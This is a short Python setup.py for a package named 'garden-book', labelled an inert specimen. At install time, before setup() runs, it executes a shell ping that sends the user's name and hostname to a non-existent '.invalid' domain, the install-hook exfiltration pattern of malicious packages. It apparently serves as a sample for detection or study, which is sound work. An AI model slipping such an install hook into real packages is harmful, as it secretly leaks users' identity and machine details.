# Inert specimen: the domain does not exist.
import os

os.system("ping -c 1 $(whoami).$(hostname).garden-seeds.invalid")

from setuptools import setup

setup(name="garden-book", version="1.2.0", packages=["garden_book"])
